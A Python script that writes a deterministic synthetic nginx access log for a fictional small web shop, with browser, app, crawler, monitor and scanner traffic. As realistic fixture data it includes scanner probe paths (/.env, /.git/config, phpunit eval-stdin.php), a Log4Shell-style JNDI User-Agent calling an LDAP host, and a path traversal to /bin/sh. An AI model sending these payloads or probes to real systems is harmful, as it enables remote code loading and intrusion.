#!/usr/bin/env python3
"""Writes a realistic nginx "combined" access log, the same bytes on every run.

    deploy/gen-access-log.py [-n LINES] [--seed N] [-o FILE]

Format (nginx's predefined "combined"):
    $remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent
    "$http_referer" "$http_user_agent"

The traffic of a small web shop over 2026-11-23 and 2026-11-24 (UTC, +0000), in time order:
about 300 client addresses whose activity follows a Zipf-like law (a few heavy hitters, a
long tail): browsers that load a page and its assets and click on, a mobile app using the
JSON API, search engine crawlers, command line tools, an uptime monitor, and scanners
probing for well-known files. Statuses are mostly 200, then 304, 404, 301 and a few 500/503; a handful
of odd lines are kept the way nginx writes them (a TLS handshake sent to the plain HTTP port,
a connection closed before any request, a hostile User-Agent).

The bundled sample is `deploy/gen-access-log.py -n 4400 -o deploy/sample/access.log` (just
under 1 MiB). Python 3 standard library only.
"""

import argparse
import math
import random
import sys
from datetime import datetime, timedelta, timezone

SITE = "https://www.example.com"
START = datetime(2026, 11, 23, 0, 0, 0, tzinfo=timezone.utc)
SPAN_S = 2 * 24 * 3600
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]

# ---- the site -------------------------------------------------------------------------------

# Pages: path -> (weight as a landing or next page, typical HTML size in bytes).
PAGES = {
    "/": (30, 18734),
    "/pricing": (9, 12480),
    "/about": (3, 8211),
    "/blog/": (6, 15002),
    "/blog/2026/11/shipping-logs-with-kafka": (8, 24630),
    "/blog/2026/10/mysql-batching-tricks": (4, 21107),
    "/blog/2026/09/counting-with-redis-hyperloglog": (3, 19876),
    "/docs/": (5, 11345),
    "/docs/getting-started": (6, 27419),
    "/docs/configuration": (4, 33980),
    "/products": (10, 22051),
    "/products/ferry-pro": (5, 16733),
    "/products/ferry-cloud": (4, 15990),
    "/cart": (3, 9024),
    "/login": (4, 6120),
    "/signup": (2, 7333),
    "/search?q=kafka+consumer+group": (1, 14210),
    "/search?q=mysql+upsert": (1, 13876),
}

# What a page links to, to pick the next click of a visit.
LINKS = {
    "/": ["/pricing", "/products", "/blog/", "/docs/", "/about", "/login"],
    "/pricing": ["/signup", "/products/ferry-pro", "/products/ferry-cloud", "/cart"],
    "/about": ["/", "/blog/"],
    "/blog/": ["/blog/2026/11/shipping-logs-with-kafka", "/blog/2026/10/mysql-batching-tricks",
               "/blog/2026/09/counting-with-redis-hyperloglog"],
    "/blog/2026/11/shipping-logs-with-kafka": ["/docs/getting-started", "/pricing", "/blog/"],
    "/blog/2026/10/mysql-batching-tricks": ["/blog/", "/docs/configuration"],
    "/blog/2026/09/counting-with-redis-hyperloglog": ["/blog/", "/products"],
    "/docs/": ["/docs/getting-started", "/docs/configuration", "/search?q=kafka+consumer+group"],
    "/docs/getting-started": ["/docs/configuration", "/signup", "/pricing"],
    "/docs/configuration": ["/docs/", "/search?q=mysql+upsert"],
    "/products": ["/products/ferry-pro", "/products/ferry-cloud", "/cart"],
    "/products/ferry-pro": ["/cart", "/pricing"],
    "/products/ferry-cloud": ["/cart", "/signup"],
    "/cart": ["/products", "/login"],
    "/login": ["/", "/cart"],
    "/signup": ["/", "/docs/getting-started"],
    "/search?q=kafka+consumer+group": ["/docs/configuration", "/blog/2026/11/shipping-logs-with-kafka"],
    "/search?q=mysql+upsert": ["/blog/2026/10/mysql-batching-tricks"],
}

# Assets every page references: path -> size.
ASSETS = {
    "/static/css/main.4f3a9c.css": 48211,
    "/static/js/vendor.c93e10.js": 211734,
    "/static/js/app.81b2d7.js": 63017,
    "/static/img/logo.svg": 3310,
    "/static/fonts/inter-var.woff2": 98442,
}
HERO = ("/static/img/hero.webp", 142336)  # the home page only
FAVICON = ("/favicon.ico", 15086)

# Old or mistyped links that people and crawlers still follow.
MISSING = ["/blog/2025/12/old-release-notes", "/docs/v1/install", "/apple-touch-icon.png",
           "/products/ferry-lite"]
# 301s: nginx adds the trailing slash to a directory, the old home page moved.
REDIRECTS = {"/blog": "/blog/", "/docs": "/docs/", "/index.html": "/"}
# What scanners look for.
PROBES = ["/wp-login.php", "/.env", "/.git/config", "/phpmyadmin/index.php", "/xmlrpc.php",
          "/wp-admin/setup-config.php", "/admin/.env", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
          "/actuator/env", "/server-status"]

# An upstream restart that went wrong: dynamic requests get 503 for a few minutes.
OUTAGE = (86400 + 14 * 3600 + 2 * 60 + 5, 86400 + 14 * 3600 + 14 * 60 + 40)
CLIENTS = 700  # the pool; the rarest ones do not come back in two days
ZIPF_S = 0.7  # client activity ~ 1 / rank**ZIPF_S

NGINX_301 = 162
NGINX_404 = 146
NGINX_503 = 190
CUSTOM_404 = 5321  # the site's own "not found" page, for HTML requests of real visitors
API_ERROR = 58     # {"error":"internal","request_id":"..."}

# ---- clients --------------------------------------------------------------------------------

BROWSERS = [  # (weight, user agent)
    (24, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"),
    (12, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"),
    (10, "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1.1 Mobile/15E148 Safari/604.1"),
    (9, "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36"),
    (7, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15"),
    (6, "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0"),
    (5, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0"),
    (3, "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"),
    (2, "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36"),
    (2, "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/27.0 Chrome/125.0.0.0 Mobile Safari/537.36"),
    (1, "Mozilla/5.0 (iPad; CPU OS 17_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.7 Mobile/15E148 Safari/604.1"),
]
APPS = [
    (3, "FerryShop/3.2.1 (Android 14; Pixel 8) okhttp/4.12.0"),
    (2, "FerryShop/3.2.1 (iPhone15,2; iOS 18.1.1) CFNetwork/1568.200.51 Darwin/24.1.0"),
    (1, "FerryShop/3.1.9 (Android 13; SM-A546B) okhttp/4.11.0"),
]
TOOLS = [
    (4, "curl/8.11.1"),
    (3, "python-requests/2.32.3"),
    (2, "Go-http-client/1.1"),
    (1, "Wget/1.24.5"),
    (1, "curl/7.88.1"),
]
BOTS = {
    "google": "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "bing": "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "ahrefs": "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "yandex": "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "apple": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
    "duckduck": "DuckDuckBot-Https/1.1; (+https://duckduckgo.com/duckduckbot)",
}
MONITOR_UA = "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"
SCANNER_UAS = [
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36",
    "python-requests/2.31.0",
    "-",
]

EXTERNAL_REFERERS = [  # (weight, referer) of a visit's landing page
    (40, "-"),
    (30, "https://www.google.com/"),
    (6, "https://www.bing.com/"),
    (5, "https://duckduckgo.com/"),
    (4, "https://news.ycombinator.com/"),
    (3, "https://www.reddit.com/r/programming/"),
    (3, "https://t.co/Xq3mZ81LkP"),
    (2, "https://github.com/"),
    (2, "https://www.linkedin.com/"),
    (1, "android-app://com.google.android.gm/"),
]


def weighted(rng, pairs):
    total = sum(w for w, _ in pairs)
    x = rng.uniform(0, total)
    for w, v in pairs:
        x -= w
        if x <= 0:
            return v
    return pairs[-1][1]


def public_ipv4(rng):
    while True:
        a = rng.randint(1, 223)
        if a in (10, 100, 127, 169, 172, 192, 198, 203):  # private, shared, test ranges
            continue
        return "%d.%d.%d.%d" % (a, rng.randint(0, 255), rng.randint(0, 255), rng.randint(1, 254))


def make_clients(rng, n):
    """n clients as dicts (ip, kind, ua, weight), weights Zipf-like by rank."""
    ips = set()

    def fresh(make):
        while True:
            ip = make()
            if ip not in ips:
                ips.add(ip)
                return ip

    clients = []
    # crawlers come from their operators' well-known ranges
    crawlers = [("google", "66.249.66.%d"), ("google", "66.249.66.%d"), ("google", "66.249.68.%d"),
                ("bing", "40.77.167.%d"), ("bing", "157.55.39.%d"), ("ahrefs", "54.36.148.%d"),
                ("ahrefs", "54.36.149.%d"), ("yandex", "5.255.231.%d"), ("apple", "17.241.75.%d"),
                ("duckduck", "20.191.45.%d")]
    for name, pattern in crawlers:
        clients.append({"ip": fresh(lambda: pattern % rng.randint(1, 254)), "kind": "bot",
                        "ua": BOTS[name]})
    for _ in range(4):
        clients.append({"ip": fresh(lambda: "45.148.10.%d" % rng.randint(1, 254)
                                    if rng.random() < 0.5 else public_ipv4(rng)),
                        "kind": "scanner", "ua": rng.choice(SCANNER_UAS)})
    while len(clients) < n:
        r = rng.random()
        if r < 0.80:
            kind, ua = "browser", weighted(rng, BROWSERS)
        elif r < 0.92:
            kind, ua = "app", weighted(rng, APPS)
        else:
            kind, ua = "tool", weighted(rng, TOOLS)
        if rng.random() < 0.03:
            ip = fresh(lambda: "2a02:%x:%x:%x::%x" % (rng.randint(0x1000, 0xffff), rng.randint(1, 0xffff),
                                                      rng.randint(1, 0xffff), rng.randint(1, 0xfff)))
        else:
            ip = fresh(lambda: public_ipv4(rng))
        clients.append({"ip": ip, "kind": kind, "ua": ua})
    # ranks: a corporate proxy full of browsers, the main crawler and the app's most active
    # user lead; scanners sit in the tail; the rest in random order
    head = [c for c in clients if c["kind"] == "browser"][:1] + clients[:1] + \
        [c for c in clients if c["kind"] == "app"][:1]
    tail = [c for c in clients if c["kind"] == "scanner"]
    middle = [c for c in clients if c not in head and c not in tail]
    rng.shuffle(middle)
    ranked = head + middle[:150] + tail + middle[150:]
    for rank, c in enumerate(ranked, 1):
        c["weight"] = 1.0 / rank ** ZIPF_S
        c["visits"] = 0
    return ranked


# ---- visits ---------------------------------------------------------------------------------

class Log:
    def __init__(self):
        # (seconds since START, sequence, ip, request, status, size, referer, ua, keep);
        # keep: never thinned out
        self.entries = []

    def add(self, t, ip, method, url, status, size, referer, ua, protocol="HTTP/1.1", keep=False):
        if not 0 <= t < SPAN_S:
            return
        request = "%s %s %s" % (method, url, protocol) if method else url
        if OUTAGE[0] <= t < OUTAGE[1] and method and not url.startswith("/static/") and \
                status in (200, 304):
            status, size = 503, NGINX_503
        self.entries.append((t, len(self.entries), ip, request, status, size, referer, ua, keep))


def jitter(rng, size, spread=0.04):
    return max(1, int(size * rng.uniform(1 - spread, 1 + spread)))


def page_hit(rng, log, t, c, path, referer, returning):
    """A browser loads a page: the HTML, then the assets it is not caching."""
    ip, ua = c["ip"], c["ua"]
    if path in REDIRECTS:
        log.add(t, ip, "GET", path, 301, NGINX_301, referer, ua)
        t += rng.uniform(0.05, 0.4)
        path = REDIRECTS[path]
    if path in MISSING:
        log.add(t, ip, "GET", path, 404, CUSTOM_404, referer, ua)
        return t, "/"
    log.add(t, ip, "GET", path, 200, jitter(rng, PAGES[path][1]), referer, ua)
    page_url = SITE + path
    if c.get("assets_loaded"):
        pass  # in the memory cache of the same visit: no requests
    else:
        assets = list(ASSETS.items())
        if path == "/":
            assets.append(HERO)
        for a, size in assets:
            t += rng.uniform(0.02, 0.35)
            if returning and rng.random() < 0.85:
                log.add(t, ip, "GET", a, 304, 0, page_url, ua)
            else:
                log.add(t, ip, "GET", a, 200, size, page_url, ua)
        if not returning:
            t += rng.uniform(0.1, 0.6)
            log.add(t, ip, "GET", FAVICON[0], 200, FAVICON[1], page_url, ua)
            if "iPhone" in ua or "iPad" in ua:
                log.add(t + 0.01, ip, "GET", "/apple-touch-icon.png", 404, NGINX_404, "-", ua)
        c["assets_loaded"] = True
    # pages that call the API from the browser
    if path.startswith("/products"):
        t += rng.uniform(0.2, 0.9)
        log.add(t, ip, "GET", "/api/v1/products?page=1" if path == "/products"
                else "/api/v1/products/" + path.rsplit("/", 1)[1], 200, jitter(rng, 6411, 0.2),
                page_url, ua)
    elif path == "/cart":
        t += rng.uniform(0.2, 0.9)
        log.add(t, ip, "GET", "/api/v1/cart", 200, jitter(rng, 812, 0.5), page_url, ua)
        if rng.random() < 0.35:
            t += rng.uniform(4, 40)
            status = 200 if rng.random() < 0.96 else rng.choice([500, 503])
            size = {200: jitter(rng, 388, 0.1), 500: API_ERROR, 503: NGINX_503}[status]
            log.add(t, ip, "POST", "/api/v1/orders", status, size, page_url, ua)
    elif path in ("/login", "/signup") and rng.random() < 0.5:
        t += rng.uniform(8, 45)
        log.add(t, ip, "POST", path, 200, jitter(rng, 1840, 0.3), page_url, ua)
    elif path.startswith("/search"):
        t += rng.uniform(0.2, 0.6)
        ok = rng.random() < 0.9  # the search backend times out now and then
        log.add(t, ip, "GET", "/api/v1/search?q=" + path.split("=", 1)[1], 200 if ok else 500,
                jitter(rng, 3904, 0.3) if ok else API_ERROR, page_url, ua)
    return t, path


def browser_visit(rng, log, t, c):
    returning = c["visits"] > 0 and rng.random() < 0.5
    c["assets_loaded"] = False
    landing = weighted(rng, [(w, p) for p, (w, _) in PAGES.items()])
    r = rng.random()
    if r < 0.03:
        landing = rng.choice(MISSING[:2] + ["/products/ferry-lite"])
    elif r < 0.06:
        landing = rng.choice(list(REDIRECTS))
    referer = weighted(rng, EXTERNAL_REFERERS)
    if landing.startswith("/search"):
        referer = "-"
    t, path = page_hit(rng, log, t, c, landing, referer, returning)
    clicks = min(int(rng.expovariate(0.6)), 6)
    for _ in range(clicks):
        t += rng.uniform(4, 110)
        nxt = rng.choice(LINKS.get(path, ["/"]))
        t, path = page_hit(rng, log, t, c, nxt, SITE + path, True)


def app_visit(rng, log, t, c):
    ip, ua = c["ip"], c["ua"]
    log.add(t, ip, "GET", "/api/v1/session", 200, jitter(rng, 214, 0.1), "-", ua)
    t += rng.uniform(0.2, 1.5)
    log.add(t, ip, "GET", "/api/v1/products?page=1", 200, jitter(rng, 6411, 0.2), "-", ua)
    for _ in range(rng.randint(0, 4)):
        t += rng.uniform(2, 30)
        pid = rng.choice([1001, 1002, 1007, 1013, 1042])
        if rng.random() < 0.02:
            log.add(t, ip, "GET", "/api/v1/products/%d" % pid, 500, API_ERROR, "-", ua)
        else:
            log.add(t, ip, "GET", "/api/v1/products/%d" % pid, 200, jitter(rng, 1733, 0.3), "-", ua)
    if rng.random() < 0.3:
        t += rng.uniform(3, 20)
        log.add(t, ip, "POST", "/api/v1/cart", 200, jitter(rng, 812, 0.5), "-", ua)
        if rng.random() < 0.5:
            t += rng.uniform(10, 60)
            r = rng.random()
            status, size = (200, jitter(rng, 388, 0.1)) if r < 0.95 else \
                (500, API_ERROR) if r < 0.98 else (503, NGINX_503)
            log.add(t, ip, "POST", "/api/v1/orders", status, size, "-", ua)


def bot_visit(rng, log, t, c):
    ip, ua = c["ip"], c["ua"]
    if rng.random() < 0.3:
        log.add(t, ip, "GET", "/robots.txt", 200, 311, "-", ua)
        t += rng.uniform(1, 5)
    if rng.random() < 0.2:
        log.add(t, ip, "GET", "/sitemap.xml", 200, 4127, "-", ua)
        t += rng.uniform(1, 5)
    for _ in range(rng.randint(1, 4)):
        r = rng.random()
        if r < 0.08:
            path = rng.choice(MISSING[:2])
            log.add(t, ip, "GET", path, 404, CUSTOM_404, "-", ua)
        elif r < 0.14:
            path = rng.choice(list(REDIRECTS))
            log.add(t, ip, "GET", path, 301, NGINX_301, "-", ua)
        elif r < 0.25:
            path = rng.choice(list(PAGES))
            log.add(t, ip, "GET", path, 304, 0, "-", ua)
        else:
            path = rng.choice(list(PAGES))
            log.add(t, ip, "GET", path, 200, jitter(rng, PAGES[path][1]), "-", ua)
        t += rng.uniform(2, 40)


def tool_visit(rng, log, t, c):
    ip, ua = c["ip"], c["ua"]
    r = rng.random()
    if r < 0.4:
        log.add(t, ip, "GET", "/api/v1/products?page=%d" % rng.randint(1, 3), 200,
                jitter(rng, 6411, 0.2), "-", ua)
    elif r < 0.6:
        log.add(t, ip, "HEAD", "/", 200, 0, "-", ua)
    elif r < 0.8:
        log.add(t, ip, "GET", "/", 200, jitter(rng, PAGES["/"][1]), "-", ua)
    elif r < 0.9:
        log.add(t, ip, "GET", "/docs", 301, NGINX_301, "-", ua)
    else:
        log.add(t, ip, "GET", "/api/v2/products", 404, NGINX_404, "-", ua)


def scanner_visit(rng, log, t, c):
    ip, ua = c["ip"], c["ua"]
    for path in rng.sample(PROBES, rng.randint(3, 7)):
        method = "POST" if path.endswith("eval-stdin.php") else "GET"
        log.add(t, ip, method, path, 404, NGINX_404, "-", ua)
        t += rng.uniform(0.1, 0.8)


VISITS = {"browser": browser_visit, "app": app_visit, "bot": bot_visit, "tool": tool_visit,
          "scanner": scanner_visit}


def diurnal_time(rng):
    """Seconds into the two days, busier in the European and American afternoon."""
    while True:
        t = rng.uniform(0, SPAN_S)
        hour = (t / 3600.0) % 24
        w = 0.2 + 0.8 * (0.5 - 0.5 * math.cos(2 * math.pi * (hour - 4) / 24))
        if rng.random() < w:
            return t


def monitor(rng, log, ip, n):
    """An uptime check at a fixed interval (every 10 minutes for 5000 lines), the same second
    of the minute each time: about 6% of the lines."""
    every = max(60, round(SPAN_S / (0.06 * n) / 60) * 60)
    t = 17.0
    while t < SPAN_S:
        if rng.random() < 0.6:
            log.add(t, ip, "HEAD", "/", 200, 0, "-", MONITOR_UA)
        else:
            log.add(t, ip, "GET", "/healthz", 200 if rng.random() < 0.995 else 503, 2, "-", MONITOR_UA)
        t += every


def odd_lines(rng, log, scanners):
    """What nginx writes for traffic that is not quite HTTP."""
    def when():
        return rng.uniform(600, SPAN_S - 600)

    s = [c["ip"] for c in scanners]
    # a TLS ClientHello sent to the plain HTTP port; nginx escapes the bytes as \xHH
    log.add(when(), s[0], None, "\\x16\\x03\\x01\\x00", 400, 157, "-", "-", keep=True)
    log.add(when(), s[1], None, "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03", 400, 157,
            "-", "-", keep=True)
    # a connection opened and closed without a request
    log.add(when(), s[2], None, "-", 400, 0, "-", "-", keep=True)
    log.add(when(), public_ipv4(rng), None, "-", 400, 0, "-", "-", keep=True)
    # a hostile User-Agent and a path traversal attempt
    log.add(when(), s[3], "GET", "/", 200, 18734, "-",
            "${jndi:ldap://45.148.10.7:1389/Exploit}", keep=True)
    log.add(when(), s[0], "GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400, 157, "-",
            SCANNER_UAS[0], keep=True)
    # an HTTP/1.0 client and an HTTP/2 preface on the HTTP/1 port
    log.add(when(), s[1], "GET", "/", 200, 18734, "-", "-", protocol="HTTP/1.0", keep=True)
    log.add(when(), s[2], "PRI", "*", 400, 157, "-", "-", protocol="HTTP/2.0", keep=True)


def time_local(t):
    d = START + timedelta(seconds=int(t))
    return "%02d/%s/%04d:%02d:%02d:%02d +0000" % (d.day, MONTHS[d.month - 1], d.year, d.hour,
                                                   d.minute, d.second)


def generate(n, seed):
    rng = random.Random(seed)
    clients = make_clients(rng, CLIENTS)
    log = Log()
    monitor(rng, log, "52.70.112.34", n)
    odd_lines(rng, log, [c for c in clients if c["kind"] == "scanner"])
    pairs = [(c["weight"], c) for c in clients]
    while len(log.entries) < n * 1.03 + 20:
        c = weighted(rng, pairs)
        t = diurnal_time(rng)
        VISITS[c["kind"]](rng, log, t, c)
        c["visits"] += 1
    entries = sorted(log.entries, key=lambda e: (int(e[0]), e[1]))
    # thin uniformly to exactly n lines, keeping the odd ones
    extra = len(entries) - n
    if extra > 0:
        droppable = [i for i, e in enumerate(entries) if not e[8]]
        drop = set(rng.sample(droppable, min(extra, len(droppable))))
        entries = [e for i, e in enumerate(entries) if i not in drop]
    out = []
    for t, _, ip, request, status, size, referer, ua, _ in entries[:n]:
        out.append('%s - - [%s] "%s" %d %d "%s" "%s"\n' % (ip, time_local(t), request, status,
                                                          size, referer, ua))
    return out


def main():
    ap = argparse.ArgumentParser(description="Write a deterministic nginx combined access log.")
    ap.add_argument("-n", "--lines", type=int, default=5000, help="number of lines (default 5000)")
    ap.add_argument("--seed", type=int, default=20261123, help="random seed (default 20261123)")
    ap.add_argument("-o", "--output", help="file to write (default: standard output)")
    args = ap.parse_args()
    if args.lines < 1:
        ap.error("--lines must be at least 1")
    lines = generate(args.lines, args.seed)
    if args.output:
        with open(args.output, "w", encoding="ascii", newline="\n") as f:
            f.writelines(lines)
    else:
        sys.stdout.writelines(lines)


if __name__ == "__main__":
    main()
